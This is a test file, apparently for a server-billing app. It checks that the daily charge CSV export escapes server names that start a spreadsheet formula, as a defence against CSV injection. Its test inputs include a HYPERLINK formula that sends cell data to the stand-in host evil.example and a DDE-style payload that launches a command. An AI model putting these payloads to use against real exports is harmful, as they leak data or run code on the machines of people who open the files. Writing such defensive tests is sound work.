import { afterAll, beforeAll, expect, test } from 'bun:test'
import { call, type Member } from '../support/access'
import { startTestApp, type TestApp } from '../support/app'
import { addServers, clockTo, payer, runCharges, utcUs } from '../support/billing'

/**
 * The per-day charge CSV neutralises formula cells (OWASP "CSV Injection"): a server renamed to a
 * formula through the API comes out as text a spreadsheet will not run.
 */
let app: TestApp
let owner: Member
const names = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(A1:A9)', 'plain rig']

beforeAll(async () => {
  app = await startTestApp({ LOG_LEVEL: 'silent' })
  await clockTo(app, utcUs(2027, 5, 10, 0, 5))
  owner = await payer(app, 'starter', 'csv')
  for (const [i, name] of names.entries()) {
    const [id] = await addServers(app, owner.tenantId, 1, `rig-${i}`)
    const res = await call(app, 'PATCH', `/servers/${id}`, owner, { json: { name } })
    expect({ status: res.status, body: await res.text() }).toMatchObject({ status: 200 })
  }
  await clockTo(app, utcUs(2027, 5, 10, 3, 30))
  await runCharges(app)
})
afterAll(() => app.close())

test('server names that start a formula are written with a leading quote, inside quotes', async () => {
  const res = await call(app, 'GET', '/billing/charges/2027-05-10.csv', owner)
  expect(res.status).toBe(200)
  const lines = (await res.text()).split('\r\n').slice(1, -1)
  expect(lines).toHaveLength(names.length)
  const nameCells = lines.map((l) => l.split(',')[2]!)
  for (const cell of nameCells) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
  const raw = lines.join('\n')
  expect(raw).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",`)
  expect(raw).toContain(`,"'+cmd|' /C calc'!A0",`)
  expect(raw).toContain(`,"'-2+3",`)
  expect(raw).toContain(`,"'@SUM(A1:A9)",`)
  expect(raw).toContain(',plain rig,')
  // Amounts stay plain numbers.
  for (const l of lines) expect(l).toMatch(/,\d+,\d+\.\d{2,6}$/)
})
